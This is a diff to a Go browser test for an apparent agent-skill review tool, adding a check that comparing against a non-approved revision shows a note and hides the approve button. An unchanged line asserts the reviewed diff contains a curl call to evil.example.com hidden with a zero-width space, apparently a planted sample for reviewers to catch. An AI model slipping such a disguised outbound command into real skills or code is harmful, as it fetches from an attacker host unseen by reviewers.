@@ -207,6 +207,19 @@ func TestASkillIsReviewedAndApproved(t *testing.T) {
 	if d := text(ctx, t, ".files .diff"); !strings.Contains(d, `+curl https://evil.example.com\u200b`) {
 		t.Errorf("the diff is %s", d)
 	}
+	// A comparison with another revision than the approved one shows what it is of, and leads to no decision.
+	at := &v1alpha1.Skill{}
+	if err := c.Get(t.Context(), client.ObjectKey{Namespace: "agents", Name: "weather"}, at); err != nil {
+		t.Fatal(err)
+	}
+	old := at.Status.Approved.RevisionName
+	do(ctx, t, "compare", chromedp.Click(chromedp.CSS(`a[href="#/skills/agents/weather/`+old+`"]`)), chromedp.WaitVisible(chromedp.CSS("input[value=approve]")),
+		chromedp.Click(chromedp.CSS(`a[href="#/skills/agents/weather/`+old+`/`+at.Status.RevisionName+`"]`)), chromedp.WaitVisible(chromedp.CSS("section .note a")), chromedp.WaitNotPresent(chromedp.CSS("input[value=approve]")))
+	if shown := text(ctx, t, "main"); !strings.Contains(shown, "Files, against "+at.Status.RevisionName) || !strings.Contains(shown, "is not the approved revision") {
+		t.Errorf("the comparison shows %s", shown)
+	}
+	address, _, _ := strings.Cut(s.link, "#")
+	do(ctx, t, "back", chromedp.Navigate(address+"#/skills/agents/weather"), chromedp.WaitVisible(chromedp.CSS("input[value=approve]")))
 	do(ctx, t, "approve", chromedp.Click(chromedp.CSS(`input[value=approve]`)), chromedp.SendKeys(chromedp.CSS("textarea"), "looked at"), chromedp.Click(chromedp.CSS("button[type=submit]")))
 	await(ctx, t, `document.querySelector('#said').textContent.includes('approved')`)
 	got := &v1alpha1.Skill{}
